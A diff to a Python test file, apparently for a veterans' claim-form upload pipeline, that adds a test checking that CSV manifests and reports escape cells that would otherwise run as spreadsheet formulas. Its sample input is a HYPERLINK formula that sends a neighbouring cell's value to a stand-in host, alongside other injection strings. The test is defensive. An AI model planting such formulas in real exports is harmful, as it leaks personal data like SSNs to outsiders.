@@ -88,7 +88,7 @@ class FakeStore:
     def list_etags(self, bucket, prefix):
         return {k: v for k, v in self.listing.items() if k.startswith(prefix)}
 
-    def matches(self, bucket, key, size, sha):
+    def matches(self, bucket, key, size, sha, checksum=None):
         self.heads.append(key)
         return key in self.heads_ok
 
@@ -120,3 +120,20 @@ def test_verify_falls_back_to_head_when_the_etag_is_not_an_md5():
     assert verify_uploaded([up(1, key)], bad)[1] == [1]
     legacy = FakeStore({key: (1, "m")}, heads_ok={key})  # written before the ledger kept MD5s
     assert verify_uploaded([up(1, key, md5="")], legacy)[1] == [] and legacy.heads == [key]
+
+
+def test_report_and_manifest_cells_cannot_run_as_spreadsheet_formulas():
+    from include.form526.delivery.batch import manifest_csv
+    from include.form526.delivery.report import handoff_csv
+
+    evil = '=HYPERLINK("https://x.example/?"&I3,"Jane")'
+    manifest = manifest_csv([{"submission_id": 1, "s3_key": "k", "sha256": "s", "bytes": 3,
+                              "veteran_first_name": evil, "veteran_last_name": "@SUM(A1)", "ssn": "+1",
+                              "birth_date": "-2", "file_number": "\tx", "participant_id": "\rY"}]).decode()
+    assert "'\rY" in manifest
+    row = list(csv.reader(io.StringIO(manifest, newline="")))[1]
+    assert row[4:9] == ["'" + evil, "'@SUM(A1)", "'-2", "'\tx", "'+1"]
+    bad = Row(7, "failed", error_code="=cmd", error_detail="-1+1")
+    cells = list(csv.reader(io.StringIO(reconciliation_csv([bad]).decode())))[1]
+    assert cells[6:8] == ["'=cmd", "'-1+1"] and cells[0] == "7"
+    assert list(csv.reader(io.StringIO(handoff_csv([(1, "=x")]).decode())))[1] == ["1", "'=x"]
